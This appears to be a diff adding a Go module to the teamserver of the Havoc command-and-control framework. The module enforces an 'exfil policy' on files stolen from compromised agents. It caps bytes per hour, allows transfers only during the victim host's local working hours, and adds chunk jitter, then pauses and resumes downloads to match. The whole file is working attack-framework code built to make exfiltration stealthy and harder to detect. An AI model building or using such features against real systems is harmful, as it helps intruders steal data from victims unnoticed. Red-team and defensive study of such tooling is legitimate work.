@@ -0,0 +1,213 @@
+package server
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"Havoc/pkg/agent"
+	"Havoc/pkg/common"
+	"Havoc/pkg/logger"
+)
+
+// ExfilSetup
+// parses the exfil policy of the profile and starts checking
+// if stopped downloads are allowed to continue.
+func (t *Teamserver) ExfilSetup() {
+	var (
+		Config = t.Profile.Config.Demon
+		Policy = new(ExfilPolicy)
+		err    error
+	)
+
+	t.Exfil.Agents = make(map[string]*ExfilState)
+
+	if Config == nil || Config.Exfil == nil {
+		return
+	}
+
+	if Policy.Hours, err = common.ParseWorkingHours(Config.Exfil.Hours); err != nil {
+		logger.Error("Failed to parse exfil hours: " + err.Error())
+		return
+	}
+
+	Policy.MaxPerHour = int64(Config.Exfil.MaxPerHour)
+	Policy.ChunkJitter = Config.Exfil.ChunkJitter
+
+	if Policy.ChunkJitter < 0 || Policy.ChunkJitter > 90 {
+		logger.Error("Exfil chunk jitter has to be between 0 and 90 percent")
+		return
+	}
+
+	t.Exfil.Policy = Policy
+
+	logger.Info(fmt.Sprintf("Exfil policy: max %v per hour, hours: %v, chunk jitter: %v%%", exfilMax(Policy.MaxPerHour), exfilHours(Config.Exfil.Hours), Policy.ChunkJitter))
+
+	go func() {
+		for range time.Tick(30 * time.Second) {
+			t.exfilResume()
+		}
+	}()
+}
+
+func exfilMax(Max int64) string {
+	if Max <= 0 {
+		return "unlimited"
+	}
+
+	return common.ByteCountSI(Max)
+}
+
+func exfilHours(Hours string) string {
+	if len(Hours) == 0 {
+		return "always"
+	}
+
+	return Hours
+}
+
+// exfilInHours
+// checks if the time is inside the packed working hours (see common.ParseWorkingHours).
+func exfilInHours(Hours int32, Now time.Time) bool {
+	if (Hours>>22)&1 == 0 {
+		return true
+	}
+
+	var (
+		Start   = int((Hours>>17)&0b011111)*60 + int((Hours>>11)&0b111111)
+		End     = int((Hours>>6)&0b011111)*60 + int(Hours&0b111111)
+		Minutes = Now.Hour()*60 + Now.Minute()
+	)
+
+	return Minutes >= Start && Minutes < End
+}
+
+// exfilAllowed
+// checks if the agent is allowed to transfer more data right now
+// (hours in the local time of its host). Exfil lock has to be held.
+func (t *Teamserver) exfilAllowed(Agent *agent.Agent, State *ExfilState) bool {
+	var Policy = t.Exfil.Policy
+
+	if time.Since(State.Window) >= time.Hour {
+		State.Window = time.Now()
+		State.Bytes = 0
+	}
+
+	if Policy.MaxPerHour > 0 && State.Bytes >= Policy.MaxPerHour {
+		return false
+	}
+
+	return exfilInHours(Policy.Hours, Agent.Info.LocalTime(time.Now()))
+}
+
+// ExfilTransfer
+// accounts the transferred bytes of a download (0 for a newly opened
+// download) and stops the downloads of the agent if the policy is violated.
+func (t *Teamserver) ExfilTransfer(Agent *agent.Agent, FileID int, Size int) {
+	var (
+		State   *ExfilState
+		Stopped []string
+		ok      bool
+	)
+
+	t.Exfil.Lock()
+	defer t.Exfil.Unlock()
+
+	if t.Exfil.Policy == nil {
+		return
+	}
+
+	if State, ok = t.Exfil.Agents[Agent.NameID]; !ok {
+		State = &ExfilState{Window: time.Now()}
+		t.Exfil.Agents[Agent.NameID] = State
+	}
+
+	if Size == 0 && t.Exfil.Policy.ChunkJitter > 0 && !State.Jitter {
+		Agent.DownloadJitter(t.Exfil.Policy.ChunkJitter)
+		State.Jitter = true
+	}
+
+	State.Bytes += int64(Size)
+
+	if t.exfilAllowed(Agent, State) {
+		return
+	}
+
+	for _, download := range Agent.Downloads {
+		var Paused = false
+
+		if download.State != agent.DOWNLOAD_STATE_RUNNING {
+			continue
+		}
+
+		for _, ID := range State.Paused {
+			if ID == download.FileID {
+				Paused = true
+				break
+			}
+		}
+
+		if Paused {
+			continue
+		}
+
+		Agent.DownloadTransfer(download.FileID, false)
+		State.Paused = append(State.Paused, download.FileID)
+		Stopped = append(Stopped, download.FilePath)
+	}
+
+	if len(Stopped) > 0 {
+		logger.Info(fmt.Sprintf("Agent: %v, exfil policy stopped downloads: %v", Agent.NameID, strings.Join(Stopped, ", ")))
+
+		t.AgentConsole(Agent.NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+			"Type":    "Info",
+			"Message": fmt.Sprintf("Exfil policy: stopped %v download(s) [%v transferred this hour, allowed: %v, hours: %v]", len(Stopped), common.ByteCountSI(State.Bytes), exfilMax(t.Exfil.Policy.MaxPerHour), exfilHours(t.Profile.Config.Demon.Exfil.Hours)),
+		})
+	}
+}
+
+// exfilResume
+// resumes the downloads stopped by the policy once they are allowed again.
+func (t *Teamserver) exfilResume() {
+	t.Exfil.Lock()
+	defer t.Exfil.Unlock()
+
+	for NameID, State := range t.Exfil.Agents {
+		if len(State.Paused) == 0 {
+			continue
+		}
+
+		var Agent = t.Agents.Get(NameID)
+
+		if Agent == nil || t.AgentHasDied(Agent) {
+			delete(t.Exfil.Agents, NameID)
+			continue
+		}
+
+		if !t.exfilAllowed(Agent, State) {
+			continue
+		}
+
+		var Resumed = 0
+		for _, FileID := range State.Paused {
+			/* might have been removed by an operator in the meantime */
+			if Agent.DownloadGet(FileID) == nil {
+				continue
+			}
+
+			Agent.DownloadTransfer(FileID, true)
+			Resumed++
+		}
+
+		State.Paused = nil
+
+		if Resumed > 0 {
+			logger.Info(fmt.Sprintf("Agent: %v, exfil policy resumed %v download(s)", NameID, Resumed))
+
+			t.AgentConsole(NameID, agent.HAVOC_CONSOLE_MESSAGE, map[string]string{
+				"Type":    "Info",
+				"Message": fmt.Sprintf("Exfil policy: resumed %v download(s)", Resumed),
+			})
+		}
+	}
+}